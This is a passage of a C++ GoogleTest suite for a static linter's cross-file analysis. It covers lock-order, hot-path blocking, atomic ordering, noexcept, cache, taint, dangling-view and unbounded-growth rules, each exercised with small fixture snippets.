// Tests for the at_lint whole-program phase: cross-TU fact linking
// (call / lock / hot-path graphs), the project rules it powers, the two
// ROADMAP carry-overs the PR-4 single-file engine provably missed, the
// cache behavior that keeps phase-1 facts warm while phase-2 results
// track edits in *other* files, and the v4 dataflow layer (interprocedural
// taint, dangling views, bounded growth).

#include <algorithm>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "at_lint/cache.hpp"
#include "at_lint/lint.hpp"

namespace at::lint {
namespace {

bool has_rule(const std::vector<Violation>& vs, std::string_view rule) {
  return std::any_of(vs.begin(), vs.end(),
                     [&](const Violation& v) { return v.rule == rule; });
}

std::string read_fixture(const std::string& rel) {
  const std::string path = std::string(AT_SOURCE_ROOT) + "/" + rel;
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << "missing fixture " << path;
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

// ------------------------------------------- determinism, cross-TU closure
//
// ROADMAP carry-over #1: the PR-4 engine harvested container declarations
// only from a file and its sibling header, so a loop in consumer.cpp over a
// field declared in types.hpp was invisible. The whole-program phase
// resolves the field through the include closure.

std::vector<SourceFile> cross_tu_pair(std::string_view field_type) {
  std::vector<SourceFile> files;
  files.push_back({"src/cross/types.hpp",
                   "#pragma once\n"
                   "#include <string>\n"
                   "#include " + std::string(field_type == "std::unordered_map"
                                                 ? "<unordered_map>"
                                                 : "<map>") + "\n"
                   "namespace at {\n"
                   "struct Registry {\n"
                   "  std::string dump() const;\n"
                   "  " + std::string(field_type) + "<std::string, int> counts_;\n"
                   "};\n"
                   "}  // namespace at\n"});
  files.push_back({"src/cross/consumer.cpp",
                   "#include \"cross/types.hpp\"\n"
                   "namespace at {\n"
                   "std::string Registry::dump() const {\n"
                   "  std::string out;\n"
                   "  for (const auto& kv : counts_) {\n"
                   "    out += kv.first;\n"
                   "  }\n"
                   "  return out;\n"
                   "}\n"
                   "}  // namespace at\n"});
  return files;
}

TEST(AtLintCrossTuDeterminism, FiresOnFieldDeclaredInAnotherHeader) {
  const auto vs = run_check("determinism", cross_tu_pair("std::unordered_map"));
  ASSERT_TRUE(has_rule(vs, "determinism"));
  const auto& v = vs.front();
  EXPECT_EQ(v.file, "src/cross/consumer.cpp");
  EXPECT_NE(v.message.find("counts_"), std::string::npos);
  EXPECT_NE(v.message.find("src/cross/types.hpp"), std::string::npos);
}

TEST(AtLintCrossTuDeterminism, OrderedFieldInTheSameHeaderIsClean) {
  EXPECT_TRUE(run_check("determinism", cross_tu_pair("std::map")).empty());
}

TEST(AtLintCrossTuDeterminism, InvisibleDeclarationDoesNotFire) {
  // Same loop, but the declaring header is NOT in the consumer's include
  // closure: without a visible unordered declaration the pending loop must
  // stay silent (no guessing across unrelated same-named fields).
  auto files = cross_tu_pair("std::unordered_map");
  files[1].content =
      "namespace at {\n"
      "std::string dump_it() {\n"
      "  std::string out;\n"
      "  for (const auto& kv : counts_) {\n"
      "    out += kv.first;\n"
      "  }\n"
      "  return out;\n"
      "}\n"
      "}  // namespace at\n";
  EXPECT_TRUE(run_check("determinism", files).empty());
}

TEST(AtLintCrossTuDeterminism, VisibleOrderedTwinVetoesTheFinding) {
  // Two headers in the closure declare `counts_`: one unordered, one
  // ordered. The loop could iterate either; any ordered candidate vetoes.
  auto files = cross_tu_pair("std::unordered_map");
  files.push_back({"src/cross/other.hpp",
                   "#pragma once\n"
                   "#include <map>\n"
                   "#include <string>\n"
                   "namespace at {\n"
                   "struct Cache { std::map<std::string, int> counts_; };\n"
                   "}  // namespace at\n"});
  files[1].content = "#include \"cross/types.hpp\"\n"
                     "#include \"cross/other.hpp\"\n" +
                     files[1].content.substr(files[1].content.find("namespace"));
  EXPECT_TRUE(run_check("determinism", files).empty());
}

TEST(AtLintCrossTuDeterminism, OnDiskFixturePair) {
  std::vector<SourceFile> files;
  files.push_back({"src/cross/types.hpp",
                   read_fixture("tests/negative/at_lint/cross_tu_determinism/types.hpp")});
  files.push_back(
      {"src/cross/consumer.cpp",
       read_fixture("tests/negative/at_lint/cross_tu_determinism/consumer.cpp")});
  EXPECT_TRUE(has_rule(run_check("determinism", files), "determinism"));
}

// --------------------------------------------- lock-order, helper summaries
//
// ROADMAP carry-over #2: the PR-4 engine only saw nested LockGuard scopes
// inside one function, so acquiring A then calling a helper that acquires B
// contributed no A->B edge. Call-graph summaries (and AT_ACQUIRES on
// declarations whose bodies at_lint cannot see) close the gap.

TEST(AtLintLockOrderPropagated, HelperBodySummaryCompletesTheCycle) {
  std::vector<SourceFile> files;
  // The helper's body lives in api.hpp's sibling .cpp — the layout the
  // linker's closure pruning supports (a definition in x.cpp is callable
  // wherever x.hpp is visible).
  files.push_back({"src/lk/api.cpp",
                   "#include \"lk/api.hpp\"\n"
                   "namespace at {\n"
                   "void Box::locked_helper() {\n"
                   "  util::LockGuard g(b_mu_);\n"
                   "  ++n_;\n"
                   "}\n"
                   "}  // namespace at\n"});
  files.push_back({"src/lk/api.hpp",
                   "#pragma once\n"
                   "namespace at {\n"
                   "struct Box {\n"
                   "  void locked_helper();\n"
                   "  void path1();\n"
                   "  void path2();\n"
                   "};\n"
                   "}  // namespace at\n"});
  files.push_back({"src/lk/paths.cpp",
                   "#include \"lk/api.hpp\"\n"
                   "namespace at {\n"
                   "void Box::path1() {\n"
                   "  util::LockGuard g(a_mu_);\n"
                   "  locked_helper();\n"
                   "}\n"
                   "void Box::path2() {\n"
                   "  util::LockGuard g(b_mu_);\n"
                   "  util::LockGuard h(a_mu_);\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("lock-order", files);
  ASSERT_TRUE(has_rule(vs, "lock-order"));
  EXPECT_NE(vs.front().message.find("a_mu_"), std::string::npos);
  EXPECT_NE(vs.front().message.find("b_mu_"), std::string::npos);
}

TEST(AtLintLockOrderPropagated, AtAcquiresAnnotationStandsInForTheBody) {
  std::vector<SourceFile> files;
  files.push_back({"src/lk/api.hpp",
                   "#pragma once\n"
                   "namespace at {\n"
                   "struct Box {\n"
                   "  void opaque_helper() AT_ACQUIRES(b_mu_);\n"
                   "  void path1();\n"
                   "  void path2();\n"
                   "};\n"
                   "}  // namespace at\n"});
  files.push_back({"src/lk/paths.cpp",
                   "#include \"lk/api.hpp\"\n"
                   "namespace at {\n"
                   "void Box::path1() {\n"
                   "  util::LockGuard g(a_mu_);\n"
                   "  opaque_helper();\n"
                   "}\n"
                   "void Box::path2() {\n"
                   "  util::LockGuard g(b_mu_);\n"
                   "  util::LockGuard h(a_mu_);\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(has_rule(run_check("lock-order", files), "lock-order"));
}

TEST(AtLintLockOrderPropagated, AmbiguousCalleeContributesNoEdge) {
  // Two project functions named `helper` resolve from the call site: the
  // fanout>1 edge must NOT propagate acquisitions (a wrong edge would
  // forge a deadlock report).
  std::vector<SourceFile> files;
  files.push_back({"src/lk/api.hpp",
                   "#pragma once\n"
                   "namespace at {\n"
                   "struct P { void helper() AT_ACQUIRES(b_mu_); void path1(); };\n"
                   "struct Q { void helper(); };\n"
                   "}  // namespace at\n"});
  files.push_back({"src/lk/paths.cpp",
                   "#include \"lk/api.hpp\"\n"
                   "namespace at {\n"
                   "void Q::helper() {}\n"
                   "void P::path1() {\n"
                   "  util::LockGuard g(a_mu_);\n"
                   "  helper();\n"
                   "}\n"
                   "void cycle_half() {\n"
                   "  util::LockGuard g(b_mu_);\n"
                   "  util::LockGuard h(a_mu_);\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_FALSE(has_rule(run_check("lock-order", files), "lock-order"));
}

TEST(AtLintLockOrderPropagated, OnDiskFixturePair) {
  std::vector<SourceFile> files;
  files.push_back({"src/lk/api.hpp",
                   read_fixture("tests/negative/at_lint/lock_order_propagated/api.hpp")});
  files.push_back({"src/lk/paths.cpp",
                   read_fixture("tests/negative/at_lint/lock_order_propagated/paths.cpp")});
  EXPECT_TRUE(has_rule(run_check("lock-order", files), "lock-order"));
}

// ------------------------------------------------------ blocking-in-hot-path

TEST(AtLintHotPath, AtHotRootReachesBlockingCallee) {
  std::vector<SourceFile> files;
  files.push_back({"src/hp/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void log_line() { std::printf(\"tick\\n\"); }\n"
                   "void drain() AT_HOT {\n"
                   "  log_line();\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("blocking-in-hot-path", files);
  ASSERT_TRUE(has_rule(vs, "blocking-in-hot-path"));
  EXPECT_NE(vs.front().message.find("printf"), std::string::npos);
  EXPECT_NE(vs.front().message.find("drain -> log_line"), std::string::npos);
}

TEST(AtLintHotPath, EngineDrainLoopIsAnImplicitRoot) {
  std::vector<SourceFile> files;
  files.push_back({"src/sim/engine.cpp",
                   "namespace at::sim {\n"
                   "void trace() { std::fprintf(stderr, \"x\");\n}\n"
                   "std::uint64_t Engine::run() {\n"
                   "  trace();\n"
                   "  return 0;\n"
                   "}\n"
                   "}  // namespace at::sim\n"});
  EXPECT_TRUE(has_rule(run_check("blocking-in-hot-path", files),
                       "blocking-in-hot-path"));
}

TEST(AtLintHotPath, InlineSuppressionIsAnEscapeHatch) {
  std::vector<SourceFile> files;
  files.push_back({"src/hp/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void drain() AT_HOT {\n"
                   "  // at_lint: allow(blocking-in-hot-path) — startup banner, once\n"
                   "  std::printf(\"go\\n\");\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("blocking-in-hot-path", files).empty());
}

TEST(AtLintHotPath, ColdFunctionsMayBlock) {
  std::vector<SourceFile> files;
  files.push_back({"src/hp/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void report() { std::printf(\"done\\n\"); }\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("blocking-in-hot-path", files).empty());
}

TEST(AtLintHotPath, OnDiskFixture) {
  const auto src = read_fixture(
      "tests/negative/at_lint/blocking_in_hot_path_violation.cpp");
  std::vector<SourceFile> files;
  files.push_back({"src/fix.cpp", src});
  EXPECT_TRUE(has_rule(run_check("blocking-in-hot-path", files),
                       "blocking-in-hot-path"));
}

// -------------------------------------------------------------- atomic-order

TEST(AtLintAtomicOrder, RelaxedLoadFeedingDerefNeedsAcquire) {
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Box {\n"
                   " public:\n"
                   "  int get() const { return *ptr_.load(std::memory_order_relaxed); }\n"
                   " private:\n"
                   "  std::atomic<int*> ptr_{nullptr};\n"
                   "};\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("atomic-order", files);
  ASSERT_TRUE(has_rule(vs, "atomic-order"));
  EXPECT_NE(vs.front().message.find("ptr_"), std::string::npos);
  EXPECT_NE(vs.front().message.find("memory_order_acquire"), std::string::npos);
}

TEST(AtLintAtomicOrder, RelaxedFlagGuardingOtherMemberReads) {
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Box {\n"
                   " public:\n"
                   "  int read() const {\n"
                   "    if (ready_.load(std::memory_order_relaxed)) {\n"
                   "      return payload_;\n"
                   "    }\n"
                   "    return 0;\n"
                   "  }\n"
                   " private:\n"
                   "  std::atomic<bool> ready_{false};\n"
                   "  int payload_ = 0;\n"
                   "};\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(has_rule(run_check("atomic-order", files), "atomic-order"));
}

TEST(AtLintAtomicOrder, SameObjectGuardStaysRelaxed) {
  // The Engine::run_until clock-advance idiom: a relaxed load guarding a
  // relaxed store of the SAME atomic is single-writer-safe and must not
  // trip the publication heuristic.
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Clock {\n"
                   " public:\n"
                   "  void advance(long until) {\n"
                   "    if (now_.load(std::memory_order_relaxed) < until) {\n"
                   "      now_.store(until, std::memory_order_relaxed);\n"
                   "    }\n"
                   "  }\n"
                   " private:\n"
                   "  std::atomic<long> now_{0};\n"
                   "};\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("atomic-order", files).empty());
}

TEST(AtLintAtomicOrder, DefaultedSeqCstInsideHotFunction) {
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Counter {\n"
                   " public:\n"
                   "  void bump() AT_HOT { n_.fetch_add(1); }\n"
                   " private:\n"
                   "  std::atomic<long> n_{0};\n"
                   "};\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("atomic-order", files);
  ASSERT_TRUE(has_rule(vs, "atomic-order"));
  EXPECT_NE(vs.front().message.find("seq_cst"), std::string::npos);
}

TEST(AtLintAtomicOrder, DefaultedSeqCstOffTheHotPathIsFine) {
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Counter {\n"
                   " public:\n"
                   "  void bump() { n_.fetch_add(1); }\n"
                   " private:\n"
                   "  std::atomic<long> n_{0};\n"
                   "};\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("atomic-order", files).empty());
}

TEST(AtLintAtomicOrder, OnDiskFixture) {
  std::vector<SourceFile> files;
  files.push_back(
      {"src/fix.hpp", read_fixture("tests/negative/at_lint/atomic_order_violation.hpp")});
  EXPECT_TRUE(has_rule(run_check("atomic-order", files), "atomic-order"));
}

// ----------------------------------------------------------- noexcept-escape

TEST(AtLintNoexceptEscape, NoexceptFunctionCallingThrowingHelper) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void validate(int v) {\n"
                   "  if (v < 0) throw std::invalid_argument(\"v\");\n"
                   "}\n"
                   "void apply(int v) noexcept {\n"
                   "  validate(v);\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("noexcept-escape", files);
  ASSERT_TRUE(has_rule(vs, "noexcept-escape"));
  EXPECT_NE(vs.front().message.find("apply"), std::string::npos);
  EXPECT_NE(vs.front().message.find("validate"), std::string::npos);
}

TEST(AtLintNoexceptEscape, DestructorIsImplicitlyNoexcept) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "struct Box {\n"
                   "  ~Box() { flush(); }\n"
                   "  void flush() { throw std::runtime_error(\"flush\"); }\n"
                   "};\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("noexcept-escape", files);
  ASSERT_TRUE(has_rule(vs, "noexcept-escape"));
  EXPECT_NE(vs.front().message.find("destructor"), std::string::npos);
}

TEST(AtLintNoexceptEscape, ThreadPoolTaskMayNotThrow) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void enqueue(util::ThreadPool& pool) {\n"
                   "  pool.submit([] {\n"
                   "    throw std::runtime_error(\"task\");\n"
                   "  });\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("noexcept-escape", files);
  ASSERT_TRUE(has_rule(vs, "noexcept-escape"));
  EXPECT_NE(vs.front().message.find("ThreadPool task"), std::string::npos);
}

TEST(AtLintNoexceptEscape, TryBlockAtTheBoundaryAbsorbsTheThrow) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void validate(int v) {\n"
                   "  if (v < 0) throw std::invalid_argument(\"v\");\n"
                   "}\n"
                   "void apply(int v) noexcept {\n"
                   "  try {\n"
                   "    validate(v);\n"
                   "  } catch (const std::exception&) {\n"
                   "  }\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("noexcept-escape", files).empty());
}

TEST(AtLintNoexceptEscape, NoexceptFalseIsNotARoot) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void apply(int v) noexcept(false) {\n"
                   "  if (v < 0) throw std::invalid_argument(\"v\");\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("noexcept-escape", files).empty());
}

TEST(AtLintNoexceptEscape, OnDiskFixture) {
  std::vector<SourceFile> files;
  files.push_back(
      {"src/fix.cpp", read_fixture("tests/negative/at_lint/noexcept_escape_violation.cpp")});
  EXPECT_TRUE(has_rule(run_check("noexcept-escape", files), "noexcept-escape"));
}

// --------------------------------------------- cache v3: cross-TU freshness
//
// Phase-1 facts are cached per file; phase 2 relinks every run. Editing a
// header must therefore change DEPENDENT files' project findings without
// re-extracting the dependents — and unrelated edits must leave everything
// else warm.

TEST(AtLintCacheV3, HeaderEditFlipsDependentsProjectFindingWhileFactsStayWarm) {
  auto files = cross_tu_pair("std::unordered_map");
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  ASSERT_TRUE(has_rule(cold.violations, "determinism"));

  // Swap the field to an ordered map. Only the header re-extracts —
  // consumer.cpp is not its sibling — yet the cross-TU finding disappears
  // because phase 2 re-links fresh facts against cached ones.
  auto ordered = cross_tu_pair("std::map");
  files[0].content = ordered[0].content;
  const auto warm = run(files, opts);
  EXPECT_EQ(warm.stats.analyzed, 1u);
  EXPECT_EQ(warm.stats.cache_hits, 1u);
  EXPECT_FALSE(has_rule(warm.violations, "determinism"));
}

TEST(AtLintCacheV3, UnrelatedEditKeepsTheCrossTuFinding) {
  auto files = cross_tu_pair("std::unordered_map");
  files.push_back({"src/cross/extra.cpp", "namespace at {}\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  (void)run(files, opts);
  files[2].content = "namespace at { int unrelated; }\n";
  const auto warm = run(files, opts);
  EXPECT_EQ(warm.stats.analyzed, 1u);
  EXPECT_EQ(warm.stats.cache_hits, 2u);
  // Cached phase-1 facts still carry the pending loop + container field:
  // the project finding survives without re-extraction.
  EXPECT_TRUE(has_rule(warm.violations, "determinism"));
}

TEST(AtLintCacheV3, FactRecordsRoundTripThroughSerialization) {
  std::vector<SourceFile> files;
  files.push_back({"src/rt/a.cpp",
                   "#include <cstdio>\n"
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void helper() { throw std::runtime_error(\"x\"); }\n"
                   "void drain() AT_HOT {\n"
                   "  std::printf(\"tick\\n\");\n"
                   "}\n"
                   "void apply() noexcept { helper(); }\n"
                   "}  // namespace at\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  ASSERT_TRUE(has_rule(cold.violations, "blocking-in-hot-path"));
  ASSERT_TRUE(has_rule(cold.violations, "noexcept-escape"));

  // Round-trip the cache through bytes, then a fully-warm run: both
  // project findings must be reconstructed from serialized facts alone.
  Cache restored = Cache::deserialize(cache.serialize());
  EXPECT_EQ(restored.serialize(), cache.serialize());
  RunOptions opts2;
  opts2.cache = &restored;
  const auto warm = run(files, opts2);
  EXPECT_EQ(warm.stats.analyzed, 0u);
  EXPECT_TRUE(has_rule(warm.violations, "blocking-in-hot-path"));
  EXPECT_TRUE(has_rule(warm.violations, "noexcept-escape"));
}

TEST(AtLintCacheV3, SuppressionHitCountsSurviveTheRoundTrip) {
  std::vector<SourceFile> files;
  files.push_back({"src/rt/a.cpp",
                   "int v = rand();  // at_lint: allow(banned-call) — seed demo\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  EXPECT_TRUE(cold.violations.empty());
  EXPECT_TRUE(cold.stale_suppressions.empty());

  Cache restored = Cache::deserialize(cache.serialize());
  RunOptions opts2;
  opts2.cache = &restored;
  const auto warm = run(files, opts2);
  EXPECT_EQ(warm.stats.analyzed, 0u);
  // The hit count was cached with the facts: the suppression is still not
  // stale even though nothing was re-analyzed this run.
  EXPECT_TRUE(warm.stale_suppressions.empty());
}

// ------------------------------------------------- stale inline suppressions

TEST(AtLintStaleSuppression, UnmatchedInlineAllowIsReported) {
  std::vector<SourceFile> files;
  files.push_back({"src/st/a.cpp",
                   "// at_lint: allow(banned-call) — nothing here trips it\n"
                   "int v = 0;\n"});
  const auto result = run(files, RunOptions{});
  ASSERT_EQ(result.stale_suppressions.size(), 1u);
  EXPECT_EQ(result.stale_suppressions[0].file, "src/st/a.cpp");
  EXPECT_EQ(result.stale_suppressions[0].rule, "banned-call");
}

TEST(AtLintStaleSuppression, ProjectPhaseHitIsNotStale) {
  std::vector<SourceFile> files;
  files.push_back({"src/st/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void drain() AT_HOT {\n"
                   "  // at_lint: allow(blocking-in-hot-path) — one-shot banner\n"
                   "  std::printf(\"go\\n\");\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto result = run(files, RunOptions{});
  EXPECT_FALSE(has_rule(result.violations, "blocking-in-hot-path"));
  EXPECT_TRUE(result.stale_suppressions.empty());
}

TEST(AtLintStaleSuppression, DocMentionsOfTheSyntaxAreNotSuppressions) {
  std::vector<SourceFile> files;
  files.push_back({"src/st/a.cpp",
                   "// Escape hatch: justify with // at_lint: allow(banned-call).\n"
                   "int v = 0;\n"});
  const auto result = run(files, RunOptions{});
  EXPECT_TRUE(result.stale_suppressions.empty());
}

// --------------------------------------------- v4 dataflow: taint-to-sink
//
// Taint enters at AT_UNTRUSTED entries, rides FlowEdge summaries across
// the call graph (fanout == 1 resolution), and fires when it reaches an
// allocation-size / index / path / format sink without a bounds check or
// an AT_SANITIZES hop.

std::vector<SourceFile> taint_two_hop_files(std::string_view consume_body) {
  std::vector<SourceFile> files;
  files.push_back({"src/taint/reader.hpp",
                   "#pragma once\n"
                   "#include <string>\n"
                   "namespace at {\n"
                   "std::string read_payload(const std::string& wire) AT_UNTRUSTED;\n"
                   "}  // namespace at\n"});
  files.push_back({"src/taint/reader.cpp",
                   "#include \"taint/reader.hpp\"\n"
                   "namespace at {\n"
                   "std::string read_payload(const std::string& wire) { return wire; }\n"
                   "}  // namespace at\n"});
  files.push_back({"src/taint/pipeline.cpp",
                   "#include \"taint/reader.hpp\"\n"
                   "#include <vector>\n"
                   "namespace at {\n"
                   "void consume(const std::string& buf, std::vector<int>& out) {\n" +
                       std::string(consume_body) +
                       "}\n"
                       "void route(const std::string& buf, std::vector<int>& out) {\n"
                       "  consume(buf, out);\n"
                       "}\n"
                       "void drive(std::vector<int>& out) {\n"
                       "  const std::string payload = read_payload(\"x\");\n"
                       "  route(payload, out);\n"
                       "}\n"
                       "}  // namespace at\n"});
  return files;
}

TEST(AtLintTaint, PropagatesThroughTwoCallHopsToAnAllocSizeSink) {
  const auto vs =
      run_check("taint-to-sink", taint_two_hop_files("  out.reserve(buf.size());\n"));
  ASSERT_TRUE(has_rule(vs, "taint-to-sink"));
  EXPECT_EQ(vs.front().file, "src/taint/pipeline.cpp");
  // The diagnostic names the full interprocedural chain to the sink.
  EXPECT_NE(vs.front().message.find("drive -> route -> consume"), std::string::npos);
}

TEST(AtLintTaint, BoundsCheckBeforeTheSinkSilencesIt) {
  const auto vs = run_check(
      "taint-to-sink",
      taint_two_hop_files("  if (buf.size() > 4096) return;\n"
                          "  out.reserve(buf.size());\n"));
  EXPECT_TRUE(vs.empty());
}

TEST(AtLintTaint, SanitizingHopClearsTheTaint) {
  std::vector<SourceFile> files;
  files.push_back({"src/taint/a.cpp",
                   "#include <string>\n"
                   "#include <vector>\n"
                   "namespace at {\n"
                   "std::string read_line() AT_UNTRUSTED;\n"
                   "std::size_t parse_count(const std::string& text) AT_SANITIZES;\n"
                   "void grow(std::vector<int>& out) {\n"
                   "  const std::string raw = read_line();\n"
                   "  const std::size_t n = parse_count(raw);\n"
                   "  out.reserve(n);\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("taint-to-sink", files).empty());
}

TEST(AtLintTaint, UntaintedFlowsNeverFire) {
  std::vector<SourceFile> files;
  files.push_back({"src/taint/a.cpp",
                   "#include <string>\n"
                   "#include <vector>\n"
                   "namespace at {\n"
                   "void grow(std::vector<int>& out, const std::string& trusted) {\n"
                   "  out.reserve(trusted.size());\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("taint-to-sink", files).empty());
}

// --------------------------------------------- v4 dataflow: dangling-view

TEST(AtLintDanglingView, TernaryMixingStringAndLiteralDangles) {
  // The PR-4 UB bug, generalized: the literal arm materializes a
  // std::string temporary and the view outlives it.
  std::vector<SourceFile> files;
  files.push_back({"src/view/a.cpp",
                   "#include <string>\n"
                   "#include <string_view>\n"
                   "namespace at {\n"
                   "std::string_view pick(bool flag) {\n"
                   "  std::string name = \"long enough to defeat sso\";\n"
                   "  std::string_view v = flag ? name : \"fallback\";\n"
                   "  return v;\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("dangling-view", files);
  ASSERT_TRUE(has_rule(vs, "dangling-view"));
  EXPECT_EQ(vs.front().line, 6u);
  EXPECT_NE(vs.front().message.find("ternary"), std::string::npos);
}

TEST(AtLintDanglingView, BothArmsAlreadyViewsAreClean) {
  std::vector<SourceFile> files;
  files.push_back({"src/view/a.cpp",
                   "#include <string_view>\n"
                   "namespace at {\n"
                   "std::string_view pick(bool flag, std::string_view name) {\n"
                   "  std::string_view v = flag ? name : std::string_view(\"fb\");\n"
                   "  return v;\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("dangling-view", files).empty());
}

TEST(AtLintDanglingView, SubstrTemporaryDangles) {
  std::vector<SourceFile> files;
  files.push_back({"src/view/a.cpp",
                   "#include <string>\n"
                   "#include <string_view>\n"
                   "namespace at {\n"
                   "void inspect(const char* raw) {\n"
                   "  std::string line = raw;\n"
                   "  std::string_view tail = line.substr(4);\n"
                   "  (void)tail;\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(has_rule(run_check("dangling-view", files), "dangling-view"));
}

TEST(AtLintDanglingView, ReturnViewOfLocalString) {
  std::vector<SourceFile> files;
  files.push_back({"src/view/a.cpp",
                   "#include <string>\n"
                   "#include <string_view>\n"
                   "namespace at {\n"
                   "std::string_view label(int id) {\n"
                   "  std::string text = std::to_string(id);\n"
                   "  return text;\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("dangling-view", files);
  ASSERT_TRUE(has_rule(vs, "dangling-view"));
  EXPECT_NE(vs.front().message.find("dies with the frame"), std::string::npos);
}

TEST(AtLintDanglingView, BorrowInvalidatedByPushBack) {
  std::vector<SourceFile> files;
  files.push_back({"src/view/a.cpp",
                   "#include <vector>\n"
                   "namespace at {\n"
                   "int sum(std::vector<int>& items) {\n"
                   "  auto& first = items.front();\n"
                   "  items.push_back(7);\n"
                   "  return first;\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("dangling-view", files);
  ASSERT_TRUE(has_rule(vs, "dangling-view"));
  EXPECT_NE(vs.front().message.find("push_back"), std::string::npos);
}

TEST(AtLintDanglingView, EraseLoopReassignmentIsClean) {
  // `it = items.erase(it)` re-establishes the borrow every iteration —
  // the canonical erase loop must stay silent.
  std::vector<SourceFile> files;
  files.push_back({"src/view/a.cpp",
                   "#include <vector>\n"
                   "namespace at {\n"
                   "void sweep(std::vector<int>& items) {\n"
                   "  auto it = items.begin();\n"
                   "  while (it != items.end()) {\n"
                   "    it = items.erase(it);\n"
                   "  }\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("dangling-view", files).empty());
}

TEST(AtLintDanglingView, UseBeforeMutationIsClean) {
  std::vector<SourceFile> files;
  files.push_back({"src/view/a.cpp",
                   "#include <vector>\n"
                   "namespace at {\n"
                   "int stage(std::vector<int>& items) {\n"
                   "  auto& first = items.front();\n"
                   "  int x = first + 1;\n"
                   "  items.push_back(x);\n"
                   "  return x;\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("dangling-view", files).empty());
}

// ------------------------------------------ v4 dataflow: unbounded-growth

std::vector<SourceFile> growth_files() {
  std::vector<SourceFile> files;
  files.push_back({"src/growth/tracker.hpp",
                   "#pragma once\n"
                   "#include <string>\n"
                   "#include <unordered_map>\n"
                   "namespace at {\n"
                   "class Tracker {\n"
                   " public:\n"
                   "  void ingest(const std::string& key) AT_UNTRUSTED;\n"
                   " private:\n"
                   "  std::unordered_map<std::string, int> seen_;\n"
                   "};\n"
                   "}  // namespace at\n"});
  files.push_back({"src/growth/tracker.cpp",
                   "#include \"growth/tracker.hpp\"\n"
                   "namespace at {\n"
                   "void Tracker::ingest(const std::string& key) {\n"
                   "  seen_[key] += 1;\n"
                   "}\n"
                   "}  // namespace at\n"});
  return files;
}

TEST(AtLintGrowth, TaintedMapWithNoEvictionFires) {
  const auto vs = run_check("unbounded-growth", growth_files());
  ASSERT_TRUE(has_rule(vs, "unbounded-growth"));
  EXPECT_NE(vs.front().message.find("seen_"), std::string::npos);
  EXPECT_NE(vs.front().message.find("AT_BOUNDED"), std::string::npos);
}

TEST(AtLintGrowth, EvictionInAnotherTuSilencesTheFinding) {
  auto files = growth_files();
  files.push_back({"src/growth/gc.cpp",
                   "#include \"growth/tracker.hpp\"\n"
                   "namespace at {\n"
                   "void collect(Tracker& t) { (void)t; }\n"
                   "void Tracker_gc(std::unordered_map<std::string, int>& seen_) {\n"
                   "  seen_.erase(\"old\");\n"
                   "}\n"
                   "}  // namespace at\n"});
